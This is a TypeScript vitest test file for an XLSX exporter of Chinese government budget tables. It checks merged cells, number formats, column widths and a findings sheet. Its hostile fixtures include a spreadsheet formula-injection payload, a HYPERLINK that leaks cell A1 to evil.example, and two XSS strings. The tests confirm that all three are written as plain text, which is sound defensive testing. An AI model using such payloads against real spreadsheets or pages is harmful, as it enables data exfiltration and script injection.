import { describe, expect, it } from 'vitest';
import {
  fixtureGrids,
  hostileTable,
  incomeTable,
  performanceTable,
  SAMPLE_URL,
  sampleReport,
} from '../../test/export/fixtures.ts';
import { address, readXlsx, type XlsxReadSheet } from '../../test/export/read-xlsx.ts';
import type { Report, TableGrid } from '../model.ts';
import { codeColumns } from './export-cells.ts';
import { xlsxBytes } from './xlsx-bytes.ts';
import { FINDINGS_COLUMNS, FINDINGS_SHEET_NAME, pageWorkbook, tableSheet, tableWorkbook } from './xlsx.ts';

async function roundTrip(grid: TableGrid, url?: string): Promise<XlsxReadSheet> {
  const sheets = readXlsx(await xlsxBytes(tableWorkbook(grid, { url })));
  expect(sheets).toHaveLength(1);
  return sheets[0];
}

function value(sheet: XlsxReadSheet, ref: string) {
  return sheet.cells.get(ref);
}

describe('XLSX export of one table', () => {
  it('writes heading, meta and source above the table and freezes the header rows', async () => {
    const sheet = await roundTrip(incomeTable(), SAMPLE_URL);
    expect(sheet.name).toBe('表2 单位收入总体情况表');
    expect(value(sheet, 'A1')).toMatchObject({ type: 's', value: '表2 单位收入总体情况表', bold: true });
    expect(value(sheet, 'A2')?.value).toBe('编制单位：克孜勒苏柯尔克孜自治州人民政府外事办公室');
    expect(value(sheet, 'A3')?.value).toBe('单位：万元');
    expect(value(sheet, 'A4')?.value).toBe(`来源 Source：${SAMPLE_URL}`);
    // Row 5 is blank, the header starts on row 6, two header rows are frozen with the preamble.
    expect(value(sheet, 'A6')).toMatchObject({ type: 's', value: '功能分类科目编码', bold: true });
    expect(sheet.frozenRows).toBe(7);
  });

  it('keeps merged header cells merged, exactly the grid spans', async () => {
    const sheet = await roundTrip(incomeTable(), SAMPLE_URL);
    expect(sheet.merges.sort()).toEqual(['A6:C6', 'D6:D7', 'E6:E7', 'F6:G6', 'H6:H7']);
    // Covered cells hold no value.
    for (const ref of ['B6', 'C6', 'D7', 'E7', 'G6', 'H7']) expect(value(sheet, ref)?.value).toBeUndefined();
    expect(value(sheet, 'F6')?.value).toBe('财 政 拨 款 ( 补 助 )');
    expect(value(sheet, 'G7')?.value).toBe('一般公共 预算');
  });

  it('writes amounts as numbers with #,##0.00 and codes as text with the Text format', async () => {
    const sheet = await roundTrip(incomeTable(), SAMPLE_URL);
    // Row 10 = grid row 4: 201 03 01 行政运行 414.94 317.92 317.92 97.02
    expect(value(sheet, 'A10')).toMatchObject({ type: 's', value: '201', format: '@' });
    expect(value(sheet, 'B10')).toMatchObject({ type: 's', value: '03', format: '@' });
    expect(value(sheet, 'C10')).toMatchObject({ type: 's', value: '01', format: '@' });
    expect(value(sheet, 'D10')).toMatchObject({ type: 's', value: '行政运行' });
    expect(value(sheet, 'E10')).toMatchObject({ type: 'n', value: '414.94', format: '#,##0.00' });
    expect(value(sheet, 'H10')).toMatchObject({ type: 'n', value: '97.02', format: '#,##0.00' });
    // "65.10": the number 65.1 shown with the two decimals the page wrote.
    expect(value(sheet, 'E12')).toMatchObject({ type: 'n', value: '65.1', format: '#,##0.00' });
    // Blank cells ("" and "-") are empty.
    expect(value(sheet, 'B8')?.value).toBeUndefined();
    expect(value(sheet, 'H12')?.value).toBeUndefined();
  });

  it('sizes columns for Chinese text: a CJK character counts two', async () => {
    const sheet = await roundTrip(incomeTable());
    // Column D's widest cell: 政府办公厅(室)及相关 机构事务 = 13 CJK × 2 + "(", ")", " " = 29, plus 2 padding.
    expect(sheet.widths.get(4)).toBe(13 * 2 + 3 + 2);
    // Column E: "450.28" (6) + 2, above the minimum of 6.
    expect(sheet.widths.get(5)).toBe(8);
  });

  it('stores hostile text verbatim as shared strings, negatives and percents as numbers', async () => {
    const sheet = await roundTrip(hostileTable());
    expect(sheet.name).toBe('表3 支出 <b>总体< b> 情况表 "测试"');
    // Preamble: heading, 单位：元, blank → header on row 4, body from row 5.
    expect(value(sheet, 'B5')).toMatchObject({ type: 's', value: '=HYPERLINK("http://evil.example/?leak="&A1,"点我")' });
    expect(value(sheet, 'B9')).toMatchObject({ type: 's', value: '<script>alert(1)</script>' });
    expect(value(sheet, 'B10')).toMatchObject({ type: 's', value: '"三公"经费' });
    expect(value(sheet, 'B11')).toMatchObject({ type: 's', value: '行政\n运行' });
    expect(value(sheet, 'A5')).toMatchObject({ type: 's', value: '2010301', format: '@' });
    expect(value(sheet, 'D5')).toMatchObject({ type: 's', value: '03', format: '@' });
    expect(value(sheet, 'C5')).toMatchObject({ type: 'n', value: '1566', format: '#,##0.00' });
    expect(value(sheet, 'C6')).toMatchObject({ type: 'n', value: '-3.2', format: '#,##0.00' });
    expect(value(sheet, 'C7')).toMatchObject({ type: 'n', value: '-12.5', format: '#,##0.00' });
    expect(value(sheet, 'C8')).toMatchObject({ type: 'n', value: '0.125', format: '0.0%' });
    expect(value(sheet, 'C11')).toMatchObject({ type: 's', value: '12.3.4' });
    expect(value(sheet, 'C13')).toMatchObject({ type: 'n', value: '1234567.89', format: '#,##0.00' });
    // No formula anywhere.
    for (const cell of sheet.cells.values()) expect(cell.type).not.toBe('str');
  });

  it('keeps body merges, and a merged amount appears once', async () => {
    const sheet = await roundTrip(performanceTable());
    // Preamble: heading + blank; the grid starts on row 3 (no header rows, nothing frozen).
    expect(sheet.frozenRows).toBe(0);
    expect(sheet.merges.sort()).toEqual(['A7:A9', 'B3:F3', 'B4:D4', 'B7:B8', 'C5:D5']);
    expect(value(sheet, 'C5')).toMatchObject({ type: 'n', value: '90', format: '#,##0' });
    expect(value(sheet, 'D5')?.value).toBeUndefined();
    expect(value(sheet, 'D9')).toMatchObject({ type: 's', value: '=100%' });
  });

  it('drops spans that overlap or leave the grid instead of writing a workbook Excel would repair', async () => {
    const grid = incomeTable();
    grid.spans = [...grid.spans, { row: 0, col: 1, rowSpan: 2, colSpan: 1 }, { row: 7, col: 7, rowSpan: 3, colSpan: 1 }];
    const sheet = await roundTrip(grid);
    expect(sheet.merges).toHaveLength(5);
  });
});

describe('XLSX workbook of a page', () => {
  it('has one sheet per table, unique names, and the findings sheet last', async () => {
    const report = sampleReport();
    const sheets = readXlsx(await xlsxBytes(pageWorkbook(report, { url: report.url })));
    expect(sheets.map((s) => s.name)).toEqual([
      '表2 单位收入总体情况表',
      '项目支出绩效目标表',
      '项目支出绩效目标表 (2)',
      '表3 支出 <b>总体< b> 情况表 "测试"',
      FINDINGS_SHEET_NAME,
    ]);
  });

  it('lists every finding with severity, rule, table, labels, stated and expected values', async () => {
    const report = sampleReport();
    const findings = readXlsx(await xlsxBytes(pageWorkbook(report))).at(-1)!;
    const row = (r: number) => FINDINGS_COLUMNS.map((_, c) => findings.cells.get(address(r, c))?.value ?? '');
    expect(row(0)).toEqual([...FINDINGS_COLUMNS]);
    expect(row(1).slice(0, 10)).toEqual([
      '1',
      '错误 Error',
      'performance-funding-source',
      'contradiction',
      '项目支出绩效目标表',
      '项目资金 (万元)',
      '其中: 财政拨款',
      '90',
      '0',
      '90',
    ]);
    expect(row(2)[4]).toBe('表2 单位收入总体情况表');
    expect(row(2)[12]).toBe('非财政拨款项目 2 个，金额 97.01 万元。');
    expect(row(3)[5]).toBe(report.findings[2].rowLabel);
    expect(row(3)[10]).toBe('<img src=x onerror=alert(1)> 合计不符 & "引号"');
    expect(findings.frozenRows).toBe(1);
  });

  it('says so when there are no findings', async () => {
    const report: Report = { ...sampleReport(), findings: [] };
    const findings = readXlsx(await xlsxBytes(pageWorkbook(report))).at(-1)!;
    expect(findings.cells.get('A2')?.value).toBe('未发现问题 No findings');
  });

  it('round-trips every fixture page: values, types, number formats and merges', async () => {
    let checked = 0;
    for (const page of fixtureGrids()) {
      const report: Report = {
        title: page.title,
        status: 'tables',
        tables: page.tables,
        findings: [],
        tallies: [],
        attachments: [],
      };
      const sheets = readXlsx(await xlsxBytes(pageWorkbook(report, { pageTitle: page.title })));
      expect(sheets).toHaveLength(page.tables.length + 1);
      page.tables.forEach((grid, t) => {
        const sheet = sheets[t];
        const offset = tableSheet(grid, { pageTitle: page.title }, 'x').preambleRows;
        const spans = grid.spans.filter((s) => s.rowSpan * s.colSpan > 1);
        expect(sheet.merges.sort()).toEqual(
          spans.map((s) => `${address(s.row + offset, s.col)}:${address(s.row + offset + s.rowSpan - 1, s.col + s.colSpan - 1)}`).sort(),
        );
        const codes = codeColumns(grid);
        grid.rows.forEach((row, r) => {
          row.forEach((cell, c) => {
            const out = sheet.cells.get(address(r + offset, c));
            checked++;
            const isOrigin = cell.originRow === r && cell.originCol === c;
            const inSpan = spans.some((s) => r >= s.row && r < s.row + s.rowSpan && c >= s.col && c < s.col + s.colSpan);
            if (inSpan && !isOrigin) {
              expect(out?.value).toBeUndefined();
              return;
            }
            const v = cell.value;
            if (r < grid.headRows || v.kind === 'text' || v.kind === 'invalid' || (v.kind === 'number' && codes[c])) {
              if (cell.text.trim() === '') expect(out?.value).toBeUndefined();
              else expect(out).toMatchObject({ type: 's', value: cell.text.trim() });
            } else if (v.kind === 'blank') {
              expect(out?.value).toBeUndefined();
            } else if (v.amount.percent) {
              expect(Number(out?.value)).toBeCloseTo(v.amount.value.toNumber() / 100, 12);
            } else {
              expect(out?.type).toBe('n');
              expect(Number(out?.value)).toBe(v.amount.value.toNumber());
              expect(out?.format).toBe(Math.max(v.amount.decimals, grid.precision) > 0 ? `#,##0.${'0'.repeat(Math.max(v.amount.decimals, grid.precision))}` : '#,##0');
            }
          });
        });
      });
    }
    expect(checked).toBeGreaterThan(3000);
  });
});
